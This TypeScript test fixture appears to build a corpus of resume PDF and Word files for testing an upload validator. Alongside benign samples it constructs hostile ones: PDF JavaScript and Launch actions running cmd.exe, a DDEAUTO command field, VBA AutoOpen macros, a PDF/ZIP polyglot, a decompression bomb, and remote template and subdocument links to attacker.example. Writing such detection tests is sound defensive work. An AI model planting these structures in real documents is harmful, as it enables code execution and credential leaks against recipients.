/**
 * The document corpus: PDF, DOC and DOCX files as applicants send them and as attackers would,
 * each with what the upload function must make of it. pdf.test.ts, doc.test.ts and docx.test.ts
 * read each file; document-corpus-mail.test.ts sends each to the function and records what the
 * hiring inbox received.
 */
import zlib from 'node:zlib';
import { PDFName, PDFString } from 'pdf-lib';
import type { Hazard } from '../hazards';
import {
  handWrittenPdf,
  sampleDoc,
  sampleDocx,
  samplePdf,
  samplePdfDocument,
  sampleXlsLikeCompoundFile,
  updatedPdf,
  wordBinary,
  wordPackage,
  zipArchive,
} from './documents';

/** Stored and mailed; or refused as not such a document; or refused for what it carries. */
export type Verdict = 'accepted' | 'not a document' | 'not a well-formed PDF' | Hazard[];

export interface CorpusDocument {
  name: string;
  /** The name it is sent under. */
  fileName: string;
  make: () => Buffer | Promise<Buffer>;
  verdict: Verdict;
}

const RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relationship = (id: string, type: string, target: string, external = false) =>
  `<Relationship Id="${id}" Type="${RELATIONSHIPS}/${type}" Target="${target}"` +
  `${external ? ' TargetMode="External"' : ''}/>`;
const packageRelationships = (...relationships: string[]) =>
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  `${relationships.join('')}</Relationships>`;

const JAVASCRIPT_ACTION = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const WEB_LINK =
  '/Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] ' +
  '/A << /S /URI /URI (https://www.linkedin.com/in/sample) >> >>]';

/** A PDF whose trailer sits in the comment of a ZIP archive: a PDF to viewers, a ZIP to unzippers. */
function pdfInsideZipComment(): Buffer {
  const pdf = handWrittenPdf().toString('latin1');
  const tail = pdf.lastIndexOf('startxref');
  const body = Buffer.from(pdf.slice(0, tail), 'latin1');
  const archive = zipArchive(
    { 'payload.js': 'WScript.Shell.Run("calc")' },
    { at: body.length, comment: pdf.slice(tail) },
  );
  return Buffer.concat([body, archive]);
}

/** `file` with the first `from` in it replaced by `to`. */
const replaced = (file: Buffer, from: string, to: string) =>
  Buffer.from(file.toString('latin1').replace(from, to), 'latin1');

function objectStream(filter: string, contents: Buffer): Buffer {
  return handWrittenPdf({
    objects: [
      `<< /Type /ObjStm /N 1 /First 8 /Filter /${filter} /Length ${contents.length} >>\n` +
        `stream\n${contents.toString('latin1')}\nendstream`,
    ],
  });
}

export const DOCUMENT_CORPUS: CorpusDocument[] = [
  // PDFs as word processors, printers and viewers write them.
  {
    name: 'a PDF from pdf-lib (object streams)',
    fileName: 'resume.pdf',
    make: () => samplePdf(),
    verdict: 'accepted',
  },
  {
    name: 'a PDF with a classic cross-reference table',
    fileName: 'resume.pdf',
    make: () => samplePdf('Resume', { objectStreams: false }),
    verdict: 'accepted',
  },
  {
    name: 'a hand-written PDF with a web link, opening at its first page',
    fileName: 'resume.pdf',
    make: () => handWrittenPdf({ page: WEB_LINK, catalog: '/OpenAction [3 0 R /Fit] ' }),
    verdict: 'accepted',
  },
  {
    name: 'a filled-in form (AcroForm fields)',
    fileName: 'applicant-form.pdf',
    make: async () => {
      const document = await samplePdfDocument('Applicant form');
      const form = document.getForm();
      const field = form.createTextField('applicant.name');
      field.setText('Sample Applicant');
      field.addToPage(document.getPage(0), { x: 72, y: 600, width: 200, height: 20 });
      form.createCheckBox('applicant.licensed').addToPage(document.getPage(0), { x: 72, y: 560 });
      return Buffer.from(await document.save());
    },
    verdict: 'accepted',
  },
  {
    name: 'a PDF saved again with an incremental update',
    fileName: 'signed.pdf',
    make: () =>
      updatedPdf(handWrittenPdf(), {
        3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Rotate 90 >>',
      }),
    verdict: 'accepted',
  },

  // PDFs that run code, start programs or carry files.
  {
    name: 'JavaScript run when the PDF opens',
    fileName: 'resume.pdf',
    make: () => handWrittenPdf({ catalog: `/OpenAction ${JAVASCRIPT_ACTION} ` }),
    verdict: ['javascript', 'open-action'],
  },
  {
    name: "JavaScript in the document's names tree",
    fileName: 'resume.pdf',
    make: () =>
      handWrittenPdf({
        catalog: '/Names << /JavaScript << /Names [(init) 4 0 R] >> >> ',
        objects: [JAVASCRIPT_ACTION],
      }),
    verdict: ['javascript'],
  },
  {
    name: 'JavaScript under escaped names (/J#61vaScript, /J#53)',
    fileName: 'resume.pdf',
    make: () =>
      handWrittenPdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> ' }),
    verdict: ['javascript', 'open-action'],
  },
  {
    name: 'JavaScript inside a compressed object stream',
    fileName: 'resume.pdf',
    make: async () => {
      const document = await samplePdfDocument();
      document.catalog.set(
        PDFName.of('OpenAction'),
        document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
      );
      return Buffer.from(await document.save({ useObjectStreams: true }));
    },
    verdict: ['javascript', 'open-action'],
  },
  {
    name: 'JavaScript in an object version a later update replaced',
    fileName: 'resume.pdf',
    make: () =>
      updatedPdf(handWrittenPdf({ page: `/AA << /O ${JAVASCRIPT_ACTION} >> ` }), {
        3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
      }),
    verdict: ['javascript', 'open-action'],
  },
  {
    name: 'a form field whose keystrokes run a script',
    fileName: 'form.pdf',
    make: async () => {
      const document = await samplePdfDocument('Applicant form');
      const field = document.getForm().createTextField('applicant.name');
      field.addToPage(document.getPage(0), { x: 72, y: 600, width: 200, height: 20 });
      field.acroField.dict.set(
        PDFName.of('AA'),
        document.context.obj({ K: { S: 'JavaScript', JS: PDFString.of('event.rc = true') } }),
      );
      return Buffer.from(await document.save());
    },
    verdict: ['javascript', 'open-action'],
  },
  {
    name: 'a link that launches a program',
    fileName: 'resume.pdf',
    make: () =>
      handWrittenPdf({
        page:
          '/Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] ' +
          '/A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>] ',
      }),
    verdict: ['launch'],
  },
  {
    name: 'a web address opened by itself when the PDF opens',
    fileName: 'resume.pdf',
    make: () =>
      handWrittenPdf({ catalog: '/OpenAction << /S /URI /URI (https://tracker.example/open) >> ' }),
    verdict: ['open-action'],
  },
  {
    name: 'an attached file (pdf-lib attach)',
    fileName: 'resume.pdf',
    make: async () => {
      const document = await samplePdfDocument();
      await document.attach(Buffer.from('MZ'), 'invoice.exe', {
        mimeType: 'application/octet-stream',
      });
      return Buffer.from(await document.save());
    },
    verdict: ['embedded-file'],
  },
  {
    name: 'a file attachment annotation',
    fileName: 'resume.pdf',
    make: () =>
      handWrittenPdf({
        page:
          '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] ' +
          '/FS << /Type /Filespec /F (run.bat) /EF << /F 4 0 R >> >> >>] ',
        objects: ['<< /Length 4 >>\nstream\ncalc\nendstream'],
      }),
    verdict: ['embedded-file'],
  },
  {
    name: 'rich media (a Flash annotation)',
    fileName: 'resume.pdf',
    make: () =>
      handWrittenPdf({
        page:
          '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] ' +
          '/RichMediaContent << /Assets << /Names [] >> >> >>] ',
      }),
    verdict: ['rich-media'],
  },
  {
    name: 'an XFA form',
    fileName: 'form.pdf',
    make: () =>
      handWrittenPdf({
        catalog: '/AcroForm << /Fields [] /XFA 4 0 R >> ',
        objects: ['<< /Length 13 >>\nstream\n<xdp:xdp/>   \nendstream'],
      }),
    verdict: ['scripted-form'],
  },
  {
    name: 'an encrypted PDF',
    fileName: 'resume.pdf',
    make: () =>
      handWrittenPdf({
        objects: ['<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -44 >>'],
        trailer: '/Encrypt 4 0 R /ID [<01> <01>] ',
      }),
    verdict: ['encrypted'],
  },

  // Files that start like a PDF and are not well-formed ones.
  {
    name: 'a PDF header and nothing else',
    fileName: 'resume.pdf',
    make: () => Buffer.from('%PDF-1.7\n%%EOF\n', 'latin1'),
    verdict: 'not a well-formed PDF',
  },
  {
    name: 'a PDF cut short',
    fileName: 'resume.pdf',
    make: () => handWrittenPdf().subarray(0, 300),
    verdict: 'not a well-formed PDF',
  },
  {
    name: 'HTML after the PDF header, a DOCX after that (a polyglot)',
    fileName: 'cv.docx',
    make: () =>
      Buffer.concat([
        Buffer.from('%PDF-1.7\n<html><script>alert(document.cookie)</script></html>\n', 'latin1'),
        sampleDocx(),
      ]),
    verdict: 'not a well-formed PDF',
  },
  {
    name: 'a ZIP archive after %%EOF',
    fileName: 'resume.pdf',
    make: () => Buffer.concat([handWrittenPdf(), sampleDocx()]),
    verdict: 'not a well-formed PDF',
  },
  {
    name: "a PDF whose trailer is a ZIP archive's comment (a PDF and a ZIP)",
    fileName: 'resume.pdf',
    make: pdfInsideZipComment,
    verdict: 'not a well-formed PDF',
  },
  {
    name: 'objects moved away from where the table says',
    fileName: 'resume.pdf',
    make: () => replaced(handWrittenPdf(), '1 0 obj', '%\n1 0 obj'),
    verdict: 'not a well-formed PDF',
  },
  {
    name: 'startxref pointing at no cross-reference section',
    fileName: 'resume.pdf',
    make: () => {
      const text = handWrittenPdf().toString('latin1');
      return Buffer.from(text.replace(/startxref\n\d+/, 'startxref\n9'), 'latin1');
    },
    verdict: 'not a well-formed PDF',
  },
  {
    name: 'a PDF without pages',
    fileName: 'resume.pdf',
    make: () => replaced(handWrittenPdf(), '/Count 1', '/Count 0'),
    verdict: 'not a well-formed PDF',
  },
  {
    name: 'an object stream that unpacks to 64 MB',
    fileName: 'resume.pdf',
    make: () => objectStream('FlateDecode', zlib.deflateSync(Buffer.alloc(64 * 1024 * 1024, 0x20))),
    verdict: 'not a well-formed PDF',
  },
  {
    name: 'an object stream packed with LZW, as no word processor does',
    fileName: 'resume.pdf',
    make: () => objectStream('LZWDecode', Buffer.from('4 0 << >>', 'latin1')),
    verdict: 'not a well-formed PDF',
  },

  // Word 97-2003 documents.
  { name: 'a DOC', fileName: 'cover-letter.doc', make: sampleDoc, verdict: 'accepted' },
  {
    name: 'a DOC with an empty ObjectPool, as Word leaves it',
    fileName: 'cover-letter.doc',
    make: () => wordBinary({ 'ObjectPool/': '' }),
    verdict: 'accepted',
  },
  {
    name: 'a DOC with a macro project',
    fileName: 'cover-letter.doc',
    make: () =>
      wordBinary({
        'Macros/PROJECT': 'ID="{00000000}"',
        'Macros/VBA/dir': '\x01',
        'Macros/VBA/ThisDocument': 'Sub AutoOpen()',
      }),
    verdict: ['macros'],
  },
  {
    name: 'a DOC with an embedded OLE package',
    fileName: 'cover-letter.doc',
    make: () => wordBinary({ 'ObjectPool/_1234/\x01Ole10Native': 'MZ payload' }),
    verdict: ['embedded-object'],
  },
  {
    name: 'an Excel workbook named .doc',
    fileName: 'cover-letter.doc',
    make: sampleXlsLikeCompoundFile,
    verdict: 'not a document',
  },

  // Word documents (DOCX).
  { name: 'a DOCX', fileName: 'cover-letter.docx', make: () => sampleDocx(), verdict: 'accepted' },
  {
    name: 'a DOCX with web links',
    fileName: 'cover-letter.docx',
    make: () =>
      wordPackage({
        body: '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>My portfolio</w:t></w:r></w:hyperlink></w:p>',
        relationships: relationship('rId9', 'hyperlink', 'https://portfolio.example/', true),
      }),
    verdict: 'accepted',
  },
  {
    name: 'a DOCX with a macro project (vbaProject.bin)',
    fileName: 'cover-letter.docx',
    make: () =>
      wordPackage({
        relationships: relationship('rId9', 'vbaProject', 'vbaProject.bin').replace(
          RELATIONSHIPS,
          'http://schemas.microsoft.com/office/2006/relationships',
        ),
        parts: { 'word/vbaProject.bin': 'Attribute VB_Name' },
      }),
    verdict: ['macros'],
  },
  {
    name: 'a DOCX with an ActiveX control',
    fileName: 'cover-letter.docx',
    make: () =>
      wordPackage({
        relationships: relationship('rId9', 'control', 'activeX/activeX1.xml'),
        parts: { 'word/activeX/activeX1.xml': '<ax:ocx/>' },
      }),
    verdict: ['activex'],
  },
  {
    name: 'a DOCX with an embedded OLE object',
    fileName: 'cover-letter.docx',
    make: () =>
      wordPackage({
        relationships: relationship('rId9', 'oleObject', 'embeddings/oleObject1.bin'),
        parts: { 'word/embeddings/oleObject1.bin': 'MZ' },
      }),
    verdict: ['embedded-object'],
  },
  {
    name: 'a DOCX whose template is fetched from a remote address',
    fileName: 'cover-letter.docx',
    make: () =>
      wordPackage({
        parts: {
          'word/settings.xml':
            '<w:settings xmlns:w="x"><w:attachedTemplate r:id="rId1"/></w:settings>',
          'word/_rels/settings.xml.rels': packageRelationships(
            relationship('rId1', 'attachedTemplate', 'https://attacker.example/t.dotm', true),
          ),
        },
      }),
    verdict: ['external-content'],
  },
  {
    name: 'a DOCX with a remote frame',
    fileName: 'cover-letter.docx',
    make: () =>
      wordPackage({
        parts: {
          'word/_rels/webSettings.xml.rels': packageRelationships(
            relationship('rId1', 'frame', 'https://attacker.example/frame.html', true),
          ),
        },
      }),
    verdict: ['external-content'],
  },
  {
    name: 'a DOCX with a remote subdocument and a linked object',
    fileName: 'cover-letter.docx',
    make: () =>
      wordPackage({
        relationships:
          relationship('rId8', 'subDocument', '\\\\attacker.example\\share\\sub.docx', true) +
          relationship('rId9', 'oleObject', 'https://attacker.example/o.xls', true),
      }),
    verdict: ['external-content'],
  },
  {
    name: 'a DOCX with a picture linked from a remote address',
    fileName: 'cover-letter.docx',
    make: () =>
      wordPackage({
        relationships: relationship('rId9', 'image', 'https://tracker.example/pixel.png', true),
      }),
    verdict: ['external-content'],
  },
  {
    name: 'a DOCX with a DDEAUTO field split over runs',
    fileName: 'cover-letter.docx',
    make: () =>
      wordPackage({
        body:
          '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
          '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>' +
          '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>' +
          '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
      }),
    verdict: ['command-field'],
  },
];

/** The same hazards, whatever the order they were found in. */
export const sortedHazards = (hazards: readonly Hazard[]) => [...hazards].sort();
